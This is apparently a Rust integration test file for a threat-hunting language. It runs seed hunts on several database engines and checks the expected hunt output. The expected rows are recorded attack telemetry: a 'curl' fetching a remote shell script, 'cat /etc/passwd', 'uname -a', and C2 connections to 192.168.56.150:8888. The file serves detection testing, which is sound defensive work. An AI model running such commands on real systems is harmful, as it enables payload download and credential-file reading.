//! The seed documents' hunts, verbatim (`tests/hunts/seed_*.hf` are copied from
//! `../shared/seeds/` as written), on SQLite, PostgreSQL and MariaDB, over small ECS lakes
//! shaped after what the seeds describe, giving the seeds' answers:
//!
//! - seed 001: NEW and GET FROM a variable (no data source): chrome.exe 205, firefox.exe
//!   201, then firefox.exe 201 alone;
//! - seed 002 (`bh22-linux-192.168.56.91`, `tests/fixtures/seed_bh22.jsonl`): the traffic
//!   of splunkd's children is the two connections the seed prints,
//!   172.17.0.2:38550 → 192.168.56.2:3128 and 172.17.0.2:49726 → 192.168.56.150:8888, and
//!   the TIMESTAMPED traffic of the splunkd whose command line names the C2 address is the
//!   ten records the seed's cell 6 prints;
//! - seed 004 (`container1`, `tests/fixtures/seed_container1.jsonl`, SysFlow process
//!   events with the custom property `process.x_ttp_tags`): one `ping` on 2021-10-17; the
//!   `sh` that `node` started with a T1059 tag, and what it ran besides bash, by start
//!   time (curl, uname, cat).
//!
//! The fixtures' rows are listed in each file; the answers below follow from them by hand.
//! Tables are `i14_seed_<what>_<test>_<pid>`, dropped at the end.

mod common;

use std::path::Path;

use kestrel::backend::{self, Collect, OpenOptions};
use kestrel::config::Config;
use kestrel::ingest::{ingest, IngestOptions};
use kestrel::output::{Format, Printer};
use kestrel::run::{run_hunt, RunOptions};
use kestrel::source::SourceFile;
use kestrel::sql::SqlStatement;

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

struct Lake {
    name: &'static str,
    url: String,
    tables: Vec<String>,
    /// What must live as long as the lake (a Ballista cluster).
    _engine: Option<Box<dyn std::any::Any>>,
    /// The lake's files, removed after the engine has stopped (fields drop in order).
    _scratch: Option<common::Scratch>,
}

impl Lake {
    fn load(name: &'static str, tag: &str) -> Lake {
        let pid = std::process::id();
        let mut scratch = None;
        let url = match name {
            // DataFusion reads the SQLite lake's tables written out as Parquet (below).
            "sqlite" | "datafusion" | "ballista" => {
                let dir = scratch.insert(common::scratch_dir(&format!("seed-hunts-{name}"), tag));
                format!("sqlite:///{}", dir.join("lake.db").display())
            }
            "postgres" => common::pg_url(),
            _ => common::my_url(),
        };
        let tables = vec![
            format!("i14_seed_c1_{tag}_{pid}"),
            format!("i14_seed_bh_{tag}_{pid}"),
        ];
        for (table, file) in tables
            .iter()
            .zip(["seed_container1.jsonl", "seed_bh22.jsonl"])
        {
            ingest(&IngestOptions {
                files: vec![root().join("tests/fixtures").join(file)],
                into: url.clone(),
                table: table.clone(),
                replace: true,
                ..Default::default()
            })
            .unwrap_or_else(|e| panic!("ingest {file} into {name}: {e}"));
        }
        if matches!(name, "datafusion" | "ballista") {
            let dir = Path::new(url.trim_start_matches("sqlite://"))
                .parent()
                .expect("the lake's directory")
                .to_path_buf();
            for t in &tables {
                common::sqlite_to_parquet(&url, t, &dir.join(t));
            }
            #[cfg(feature = "ballista")]
            if name == "ballista" {
                let cluster = common::cluster::Cluster::start(tag, 2, 2);
                let url = cluster.url(&dir);
                return Lake {
                    name,
                    url,
                    tables,
                    _engine: Some(Box::new(cluster)),
                    _scratch: scratch,
                };
            }
            let url = format!("datafusion://{}", dir.display());
            return Lake {
                name,
                url,
                tables,
                _engine: None,
                _scratch: scratch,
            };
        }
        Lake {
            name,
            url,
            tables,
            _engine: None,
            _scratch: scratch,
        }
    }

    fn config(&self) -> Config {
        let yaml = format!(
            "connections:\n  lake:\n    url: '{}'\ndatasources:\n  container1:\n    connection: lake\n    table: {}\n  'bh22-linux-192.168.56.91':\n    connection: lake\n    table: {}\n",
            self.url, self.tables[0], self.tables[1]
        );
        Config::from_yaml_str(&yaml, None).expect("config")
    }

    /// Every DISP row as a JSON line, then `# variable type entities records` per variable.
    fn run(&self, hunt: &str) -> String {
        let src = SourceFile::new("seed.hf", hunt);
        let mut printer = Printer::new(Vec::new(), Format::Jsonl);
        let mut summary = Vec::new();
        let rows = run_hunt(
            &src,
            Some(&self.config()),
            &mut printer,
            &mut summary,
            &RunOptions { summary: true },
        )
        .unwrap_or_else(|d| panic!("{} on {}:\n{}", hunt, self.name, d.render(&src)));
        let mut out = String::from_utf8(printer.into_inner()).expect("utf-8");
        for r in rows {
            out.push_str(&format!(
                "# {} {} {} {}\n",
                r.variable, r.entity_type, r.entities, r.records
            ));
        }
        out
    }
}

impl Drop for Lake {
    fn drop(&mut self) {
        if matches!(self.name, "sqlite" | "datafusion" | "ballista") {
            return;
        }
        let Ok(mut b) = backend::open(
            &self.url,
            &OpenOptions {
                allow_write: true,
                ..Default::default()
            },
        ) else {
            return;
        };
        for t in &self.tables {
            let sql = if self.name == "postgres" {
                format!("DROP TABLE IF EXISTS \"{t}\"")
            } else {
                format!("DROP TABLE IF EXISTS `{t}`")
            };
            let _ = b.query(
                &SqlStatement {
                    sql,
                    params: vec![],
                },
                &mut Collect::default(),
            );
        }
    }
}

/// The engines every seed hunt runs on: SQLite, PostgreSQL, MariaDB, and DataFusion over
/// Parquet, embedded and on a Ballista cluster, when built with them.
fn engines() -> Vec<&'static str> {
    let mut v = vec!["sqlite", "postgres", "mysql"];
    if cfg!(feature = "datafusion") {
        v.push("datafusion");
    }
    if cfg!(feature = "ballista") {
        v.push("ballista");
    }
    v
}

fn seed(file: &str) -> String {
    std::fs::read_to_string(root().join("tests/hunts").join(file)).expect("seed hunt")
}

/// Rows in the order printed when the hunt sorts, else sorted; never deduplicated.
fn lines(out: &str, sorted: bool) -> Vec<String> {
    let mut v: Vec<String> = out.lines().map(str::to_string).collect();
    if !sorted {
        v.sort();
    }
    v
}

#[test]
fn seed_hunts_give_the_seeds_answers_on_sqlite_postgres_and_mariadb() {
    let cases: Vec<(&str, String, Vec<&str>, bool)> = vec![
        (
            "seed_001_2",
            seed("seed_001_2.hf"),
            vec![
                r#"{"name":"chrome.exe","pid":"205"}"#,
                r#"{"name":"firefox.exe","pid":"201"}"#,
                r#"{"name":"firefox.exe","pid":"201"}"#,
                "# proclist process 4 4",
                "# browsers process 2 2",
                "# firefox process 1 1",
            ],
            false,
        ),
        (
            "seed_002_1",
            seed("seed_002_1.hf"),
            vec![
                r#"{"src_ref.value":"172.17.0.2","src_port":38550,"dst_ref.value":"192.168.56.2","dst_port":3128}"#,
                r#"{"src_ref.value":"172.17.0.2","src_port":49726,"dst_ref.value":"192.168.56.150","dst_port":8888}"#,
                "# splunkd process 2 13",
                "# splunkd_activities process 2 2",
                "# traffic network-traffic 2 2",
            ],
            false,
        ),
        (
            "seed_002_6_timestamped",
            seed("seed_002_6_timestamped.hf"),
            vec![
                r#"{"src_ref.value":"172.17.0.2","src_port":38550,"dst_ref.value":"192.168.56.2","dst_port":3128}"#,
                r#"{"src_ref.value":"172.17.0.2","src_port":49726,"dst_ref.value":"192.168.56.150","dst_port":8888}"#,
                r#"{"first_observed":"2022-07-27T14:38:30.442905703Z","src_ref.value":"224.0.0.251","src_port":5353,"dst_ref.value":"192.168.56.91","dst_port":5353}"#,
                r#"{"first_observed":"2022-07-27T14:38:30.443064336Z","src_ref.value":"172.17.0.2","src_port":5353,"dst_ref.value":"172.17.0.1","dst_port":5353}"#,
                r#"{"first_observed":"2022-07-27T14:38:31.443896894Z","src_ref.value":"172.17.0.2","src_port":5353,"dst_ref.value":"172.17.0.1","dst_port":5353}"#,
                r#"{"first_observed":"2022-07-27T14:38:31.445104677Z","src_ref.value":"172.17.0.2","src_port":49738,"dst_ref.value":"192.168.56.150","dst_port":8888}"#,
                r#"{"first_observed":"2022-07-27T14:38:31.446651846Z","src_ref.value":"172.17.0.2","src_port":49738,"dst_ref.value":"192.168.56.150","dst_port":8888}"#,
                r#"{"first_observed":"2022-07-27T14:39:31.517374587Z","src_ref.value":"172.17.0.2","src_port":49738,"dst_ref.value":"192.168.56.150","dst_port":8888}"#,
                r#"{"first_observed":"2022-07-27T14:39:31.521548431Z","src_ref.value":"172.17.0.2","src_port":49738,"dst_ref.value":"192.168.56.150","dst_port":8888}"#,
                r#"{"first_observed":"2022-07-27T14:40:01.028527Z","src_ref.value":"172.17.0.2","src_port":49738,"dst_ref.value":"192.168.56.150","dst_port":8888}"#,
                r#"{"first_observed":"2022-07-27T14:40:07.573279244Z","src_ref.value":"172.17.0.2","src_port":49738,"dst_ref.value":"192.168.56.150","dst_port":8888}"#,
                r#"{"first_observed":"2022-07-27T14:40:31.004563Z","src_ref.value":"172.17.0.2","src_port":49738,"dst_ref.value":"192.168.56.150","dst_port":8888}"#,
                "# splunkd process 2 13",
                "# splunkd_activities process 2 2",
                "# traffic network-traffic 2 2",
                "# c2_proc process 1 11",
                "# c2_traffic network-traffic 3 10",
            ],
            false,
        ),
        (
            "seed_004_1",
            seed("seed_004_1.hf"),
            vec!["# hello process 1 1"],
            false,
        ),
        (
            "seed_004_3",
            seed("seed_004_3.hf"),
            vec![
                r#"{"created":"2021-10-17T10:00:01.000000Z","pid":201,"parent_ref.pid":200,"name":"curl","command_line":"curl http://203.0.113.7/x.sh"}"#,
                r#"{"created":"2021-10-17T10:00:03.000000Z","pid":203,"parent_ref.pid":200,"name":"uname","command_line":"uname -a"}"#,
                r#"{"created":"2021-10-17T10:00:05.000000Z","pid":204,"parent_ref.pid":200,"name":"cat","command_line":"cat /etc/passwd"}"#,
                "# exploits process 1 1",
                "# exp_spawn process 4 4",
                "# exp_act process 3 3",
            ],
            true,
        ),
    ];
    let mut failures = Vec::new();
    for engine in engines() {
        let lake = Lake::load(engine, "seeds");
        for (name, hunt, want, sorted) in &cases {
            let got = lines(&lake.run(hunt), *sorted);
            let want: Vec<String> = lines(&want.join("\n"), *sorted);
            // The summary lines come after the rows whatever the order.
            let split = |v: &[String]| -> (Vec<String>, Vec<String>) {
                v.iter().cloned().partition(|l| !l.starts_with('#'))
            };
            let (mut got_rows, mut got_sum) = split(&got);
            let (mut want_rows, mut want_sum) = split(&want);
            got_sum.sort();
            want_sum.sort();
            if !sorted {
                got_rows.sort();
                want_rows.sort();
            }
            if got_rows != want_rows || got_sum != want_sum {
                failures.push(format!(
                    "{name} on {engine}:\n  got  {got_rows:#?} {got_sum:#?}\n  want {want_rows:#?} {want_sum:#?}"
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A STIX custom property (`x_ttp_tags`, ECS column `process.x_ttp_tags`) in WHERE, ATTR,
/// SORT BY, GROUP BY and JOIN BY, on every engine.
#[test]
fn custom_attributes_work_in_every_clause_on_every_engine() {
    let hunt = "p = GET process FROM stixshifter://container1 WHERE x_ttp_tags LIKE '%[T1%'\n\
                DISP p ATTR name, x_ttp_tags SORT BY pid ASC\n\
                g = GROUP p BY x_ttp_tags WITH COUNT(pid) AS n\n\
                DISP g ATTR x_ttp_tags, n SORT BY x_ttp_tags ASC\n\
                q = GET process FROM stixshifter://container1 WHERE name = 'bash'\n\
                j = JOIN p, q BY x_ttp_tags, x_ttp_tags\n\
                DISP j ATTR name SORT BY name ASC\n";
    let want = [
        r#"{"name":"sh","x_ttp_tags":"[T1059.004] Unix Shell"}"#,
        r#"{"name":"bash","x_ttp_tags":"[T1059.004] Unix Shell"}"#,
        r#"{"name":"uname","x_ttp_tags":"[T1082] System Information Discovery"}"#,
        r#"{"name":"cat","x_ttp_tags":"[T1003.008] /etc/passwd and /etc/shadow"}"#,
        r#"{"x_ttp_tags":"[T1003.008] /etc/passwd and /etc/shadow","n":1}"#,
        r#"{"x_ttp_tags":"[T1059.004] Unix Shell","n":2}"#,
        r#"{"x_ttp_tags":"[T1082] System Information Discovery","n":1}"#,
        r#"{"name":"bash"}"#,
        r#"{"name":"sh"}"#,
    ];
    for engine in engines() {
        let lake = Lake::load(engine, "custom");
        let out = lake.run(hunt);
        let rows: Vec<&str> = out.lines().filter(|l| !l.starts_with('#')).collect();
        assert_eq!(rows, want, "{engine}");
    }
}

/// An attribute that resolves nowhere names every column looked for.
#[test]
fn an_unknown_custom_attribute_lists_every_column_tried() {
    let lake = Lake::load("sqlite", "unknown");
    let src = SourceFile::new(
        "h.hf",
        "p = GET process FROM stixshifter://container1 WHERE x_nosuch = 1\n",
    );
    let mut printer = Printer::new(Vec::new(), Format::Jsonl);
    let mut summary = Vec::new();
    let err = run_hunt(
        &src,
        Some(&lake.config()),
        &mut printer,
        &mut summary,
        &RunOptions { summary: false },
    )
    .expect_err("an error");
    let text = err.render(&src);
    assert!(
        text.contains("looked for columns `process.x_nosuch`, `x_nosuch`"),
        "{text}"
    );
    assert!(text.contains("h.hf:1:53"), "{text}");
}
